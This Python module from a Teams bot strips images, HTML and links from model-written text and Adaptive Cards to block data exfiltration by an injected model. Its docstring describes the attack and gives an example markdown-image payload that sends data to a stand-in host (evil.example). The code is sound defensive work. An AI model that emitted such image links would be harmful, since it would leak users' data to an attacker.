"""Neutralise links, images and HTML in model-written text before it reaches Teams (OWASP LLM05).

A compromised or injected model can try to exfiltrate data through a markdown image (fetched by the client with no
click: ``![x](https://evil.example/?q=<data>)``), a link, a bare URL or raw HTML. Here:
- images (markdown ``![..](..)``, reference-style, ``<img>``) are removed, keeping their alt text;
- links keep their text; their target is kept only for allow-listed hosts (none by default);
- bare URLs to other hosts become ``[link removed]``; HTML tags are dropped;
- escaped markdown (``\\[``, as ``bot.cards.elements.escape`` writes it) is left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from bot.channel.policy import host_in

LINK_REMOVED = "[link removed]"
MAX_TEXT_CHARS = 20_000

_IMAGE = re.compile(r"(?<!\\)!\[((?:[^\]\\]|\\.)*)\]\s*(?:\((?:[^()]|\([^()]*\))*\)|\[[^\]]*\])")
_LINK = re.compile(r"(?<![\\!])\[((?:[^\]\\]|\\.)*)\]\s*\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+\"[^\"]*\")?\s*\)")
_REF_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.M)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.I)
_HTML_IMG = re.compile(r"<\s*img\b[^>]*>", re.I)
_HTML_TAG = re.compile(r"</?\s*[a-zA-Z][a-zA-Z0-9-]*(?:\s[^<>]*)?/?>")
_URL = re.compile(r"(?i)\b(?:(?:https?|ftp)://|www\.|data:|javascript:)[^\s<>\"')\]]*")


def _host_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
    parts = urlsplit(url if "://" in url else f"https://{url}")
    if parts.scheme not in ("https", "http") or not parts.hostname:
        return False
    return host_in(parts.hostname.lower(), (pattern.lower() for pattern in allowed_hosts))


def sanitize_text(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Model-written markdown made safe to show: no images, no HTML, links only to allow-listed hosts."""
    if not text:
        return text
    hosts = tuple(allowed_hosts)
    text = text[:MAX_TEXT_CHARS]
    text = _HTML_IMG.sub("", text)
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _REF_DEFINITION.sub("", text)
    kept: list[str] = []

    def link(match: re.Match[str]) -> str:
        label, target = match.group(1), match.group(2)
        if target and _host_allowed(target, hosts):
            kept.append(target)
            return f"[{label}]({target})"
        return label

    text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(lambda m: m.group(1), text)
    text = _HTML_TAG.sub("", text)

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        if url in kept or _host_allowed(url, hosts):
            return url
        return LINK_REMOVED

    return _URL.sub(bare, text)


_CARD_TEXT_KEYS = ("text", "title", "value", "altText", "fallbackText", "placeholder", "label")


def sanitize_card(content: Any, allowed_hosts: Iterable[str] = ()) -> Any:
    """An Adaptive Card (dict) with every displayed string sanitised (text is where model output can land), remote
    Image elements and background images removed unless allow-listed (a client fetches them unasked: the exfiltration
    channel), and Action.OpenUrl kept only for http(s) targets: card builders make those from server data (signed
    .ics links, Outlook links), and a click is needed. Data payloads (``data``, ``verb``, ``id``) are left untouched."""
    hosts = tuple(allowed_hosts)
    if isinstance(content, list):
        return [c for c in (sanitize_card(item, hosts) for item in content) if c is not None]
    if not isinstance(content, dict):
        return content
    kind = content.get("type")
    if kind == "Image" and not _host_allowed(str(content.get("url", "")), hosts) and not _inline_chart(content):
        return None
    if kind == "Action.OpenUrl" and not _web_url(str(content.get("url", ""))):
        return None
    cleaned: dict[str, Any] = {}
    for key, value in content.items():
        if key in ("data", "verb", "id"):
            cleaned[key] = value
        elif (key == "backgroundImage" and not _host_allowed(str(_url_of(value)), hosts)) or (
            key == "selectAction" and isinstance(value, dict) and value.get("type") == "Action.OpenUrl"
            and not _web_url(str(value.get("url", "")))
        ):
            continue
        elif key in _CARD_TEXT_KEYS and isinstance(value, str) and kind != "Input.Text":
            cleaned[key] = sanitize_text(value, hosts)
        elif isinstance(value, dict | list):
            cleaned[key] = sanitize_card(value, hosts)
        else:
            cleaned[key] = value
    return cleaned


def _web_url(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("https", "http") and bool(parts.hostname)


def _url_of(value: Any) -> Any:
    return value.get("url", "") if isinstance(value, dict) else value


def _inline_chart(image: dict[str, Any]) -> bool:
    """Charts rendered by Faraday itself are inline ``data:image/png`` URLs (no request leaves the client)."""
    return str(image.get("url", "")).startswith("data:image/png;base64,")


def sanitize_activity(activity: Any, allowed_hosts: Iterable[str] = ()) -> None:
    """In place: the text of a model-written message and every Adaptive Card attachment it carries."""
    hosts = tuple(allowed_hosts)
    kind = getattr(activity, "type", None)
    if kind == "typing":  # streamed chunks (Teams renders their markdown): only ever model text
        if isinstance(activity.text, str):
            activity.text = sanitize_text(activity.text, hosts)
        return
    if kind != "message":
        return
    if isinstance(activity.text, str) and _model_written(activity):
        activity.text = sanitize_text(activity.text, hosts)
    for attachment in activity.attachments or []:
        content_type = getattr(attachment, "content_type", None) or (attachment.get("contentType")
                                                                     if isinstance(attachment, dict) else None)
        if content_type != "application/vnd.microsoft.card.adaptive":
            continue
        if isinstance(attachment, dict):
            attachment["content"] = sanitize_card(attachment.get("content"), hosts)
        else:
            attachment.content = sanitize_card(attachment.content, hosts)


def _model_written(activity: Any) -> bool:
    for entity in activity.entities or []:
        if isinstance(entity, dict):
            kinds = entity.get("additionalType") or []
        else:
            kinds = getattr(entity, "additional_type", None) or (getattr(entity, "additional_properties", None)
                                                                  or {}).get("additionalType") or []
        if "AIGeneratedContent" in kinds:
            return True
    return False
